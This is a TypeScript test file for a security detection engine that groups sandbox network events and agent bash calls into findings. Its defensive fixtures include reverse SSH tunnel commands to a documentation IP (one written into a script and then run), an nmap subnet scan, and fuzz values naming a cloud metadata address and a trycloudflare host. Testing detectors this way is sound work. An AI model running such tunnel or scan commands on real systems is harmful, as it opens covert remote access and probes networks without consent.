import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Event } from '../schema/event.ts'
import type { Finding } from '../schema/finding.ts'
import type { Seen } from './api.ts'
import { defineDetection } from './api.ts'
import { detect, engineLimits, startEngine } from './engine.ts'

function event(
  index: number,
  over: Partial<Event> & { cause?: number; box?: string; seconds?: number } = {},
): Seen {
  const { cause, box = 'box-1', seconds, ...rest } = over
  const us = index * 1e6
  return {
    type: 'event',
    index,
    us,
    box,
    event: {
      class: 'network_activity',
      time: { us, spanUs: 1, kind: 'event', zone: 'utc', source: '' },
      srcEndpoint: { ip: '10.0.0.1' },
      dstEndpoint: { ip: '203.0.113.7', port: 443 },
      line: index,
      ...rest,
    },
    ...(cause === undefined ? {} : { cause: { call: cause, p: 0.9 } }),
    ...(seconds === undefined ? {} : { endUs: us + seconds * 1e6 }),
  }
}

function call(index: number, command: string, us = 0): Seen {
  return {
    type: 'call',
    index,
    us,
    endUs: us + 1e6,
    box: 'box-1',
    call: {
      name: 'bash',
      command,
      start: { us, spanUs: 1, kind: 'event', zone: 'utc', source: '' },
      uncertaintyMs: 0,
      timeSource: 'executor',
      boxHints: [],
      line: 1,
    },
  }
}

const everything = defineDetection({
  id: 'test.everything',
  name: 'All events',
  kind: 'other',
  severity: 'low',
  confidence: 0.5,
  attack: [],
  listensTo: ['network_activity'],
  falsePositives: [],
  blindSpots: [],
  response: [],
  options: {},
  start: () => (item) => ({
    title: `seen ${item.index}`,
    why: '',
    evidences: [item],
    destinations: [item.event.dstEndpoint.ip],
    severity: item.index === 3 ? 'high' : 'low',
  }),
})

describe('one fact, one finding', () => {
  test('what is seen again is folded in and counted', () => {
    const [finding, ...more] = detect([event(0), event(1), event(2, { seconds: 60 })], [everything])
    expect(more).toEqual([])
    expect(finding).toMatchObject({
      title: 'seen 0',
      events: [0, 1, 2],
      repeats: 2,
      firstUs: 0,
      lastUs: 62e6,
    })
  })

  test('a graver sighting names the finding', () => {
    expect(detect([event(0), event(3), event(4)], [everything])[0]).toMatchObject({
      title: 'seen 3',
      severity: 'high',
    })
  })

  test('another sandbox or destination is another finding', () => {
    const other = event(2, { dstEndpoint: { ip: '203.0.113.8' } })
    expect(detect([event(0), event(1, { box: 'box-2' }), other], [everything])).toHaveLength(3)
  })

  test('a flood is told at 1, 10, 100… sightings and kept within the limit', () => {
    const told: Finding[] = []
    const engine = startEngine({ detections: [everything], onFinding: (f) => told.push(f) })
    for (let i = 10; i < 2_510; i++) engine.push(event(i))
    expect(told.map((f) => (f.repeats ?? 0) + 1)).toEqual([1, 10, 100, 1000])
    const [finding] = engine.end()
    expect(finding?.events).toHaveLength(engineLimits.eventsPerFinding)
    expect(finding?.repeats).toBe(2_499)
  })
})

describe('calls and events stand together', () => {
  const ssh = 'ssh -fNR 2222:localhost:22 -p 443 u@203.0.113.7'

  test('a finding on a call gathers the events the call caused, before or after', () => {
    const items = [
      event(0, { cause: 4 }),
      call(4, ssh, 1e6),
      event(2, { cause: 4, seconds: 3_000 }),
      event(3),
    ]
    const tunnel = detect(items).find((f) => f.detection === 'tunnel.reverse-ssh')
    expect(tunnel).toMatchObject({ toolCalls: [4], events: [0, 2], lastUs: 3_002e6 })
  })

  test('but not those that went elsewhere', () => {
    const elsewhere = event(2, { cause: 4, dstEndpoint: { ip: '198.51.100.1', port: 443 } })
    const tunnel = detect([call(4, `pip install x; ${ssh}`), elsewhere]).find((f) => f.kind === 'tunnel')
    expect(tunnel?.events).toEqual([])
  })

  test('a finding on an event names the call it is attributed to', () => {
    expect(detect([event(1, { cause: 9 })], [everything])[0]?.toolCalls).toEqual([9])
  })
})

test('a script is judged when it is run, by what was written, whoever wrote it', () => {
  const write = call(0, 'cat > /tmp/k.sh <<EOF\nssh -N -R 1:localhost:22 u@203.0.113.7\nEOF')
  expect(detect([write])).toEqual([])
  const found = detect([write, call(1, 'sh /tmp/k.sh', 5e6)])
  expect(found.map((f) => [f.detection, f.toolCalls])).toEqual([['tunnel.reverse-ssh', [1]]])
  const overwritten = call(1, 'echo true > /tmp/k.sh', 2e6)
  expect(detect([write, overwritten, call(2, 'sh /tmp/k.sh', 5e6)])).toEqual([])
})

test('titles hold no control or direction characters', () => {
  const [finding] = detect([call(0, 'ssh -R 1:h:2 "ev\u001b[31mil\u202e.example"')])
  expect(finding?.title).toMatch(/^box-1 opened a reverse SSH tunnel to ev \[31mil \.example:22$/)
})

test('replay gives the same findings', () => {
  const items = [
    call(0, 'nmap 10.0.0.0/24'),
    ...Array.from({ length: 50 }, (_, i) =>
      event(i + 1, { outcome: 'refused', dstEndpoint: { ip: `10.0.0.${i}`, port: 22 } }),
    ),
  ]
  expect(JSON.stringify(detect(items))).toBe(JSON.stringify(detect(items)))
})

test('whatever logs and traces hold, it is read without an exception', () => {
  const word = fc.oneof(
    fc.string({ maxLength: 60 }),
    fc.constantFrom(
      '__proto__',
      'constructor',
      '10.0.0.9',
      '::1',
      'x.trycloudflare.com',
      '169.254.169.254',
      'a'.repeat(300),
    ),
  )
  const opt = <T>(arbitrary: fc.Arbitrary<T>) => fc.option(arbitrary, { nil: undefined })
  const number = fc.oneof(fc.integer(), fc.double(), fc.constant(22))
  const anyEvent = fc.record({
    class: fc.constantFrom(
      'network_activity',
      'dns_activity',
      'http_activity',
      'tls_activity',
      'ssh_activity',
      'api_activity',
    ),
    dst: word,
    port: opt(fc.integer({ min: 0, max: 65_535 })),
    name: opt(word),
    protocol: opt(word),
    alert: opt(word),
    bytes: opt(number),
    seconds: opt(fc.nat(10_000)),
    cause: opt(fc.nat(5)),
    outcome: fc.constantFrom('established', 'refused', 'no-answer', 'reset', undefined),
  })
  fc.assert(
    fc.property(fc.array(fc.oneof(anyEvent, word), { maxLength: 40 }), (parts) => {
      const items = parts.map((part, i): Seen => {
        if (typeof part === 'string') return call(i, part, i * 1e6)
        const { dst, port, name, protocol, alert, bytes, seconds, cause } = part
        const drafted = event(i, {
          ...(cause === undefined ? {} : { cause }),
          ...(seconds === undefined ? {} : { seconds }),
        })
        if (drafted.type !== 'event') return drafted
        const rest = {
          class: part.class,
          dstEndpoint: {
            ip: dst,
            ...(port === undefined ? {} : { port }),
            ...(name === undefined ? {} : { hostname: name }),
          },
          ...(protocol === undefined
            ? {}
            : { observed: { protocol, ...(name === undefined ? {} : { sni: name }) } }),
          ...(name === undefined ? {} : { dns: { query: { hostname: name } }, api: { operation: name } }),
          ...(alert === undefined ? {} : { alert: { title: alert } }),
          ...(bytes === undefined
            ? {}
            : { bytesOut: bytes, bytesIn: bytes, packetsOut: 1, mining: { methods: [] } }),
          ...(part.outcome === undefined ? {} : { outcome: part.outcome }),
        } as const
        return { ...drafted, event: { ...drafted.event, ...rest } as Event }
      })
      for (const finding of detect(items)) {
        expect(finding.title.length).toBeGreaterThan(0)
        expect(finding.lastUs).toBeGreaterThanOrEqual(finding.firstUs)
        expect(finding.events.length + finding.toolCalls.length).toBeGreaterThan(0)
      }
    }),
    { numRuns: 500 },
  )
})
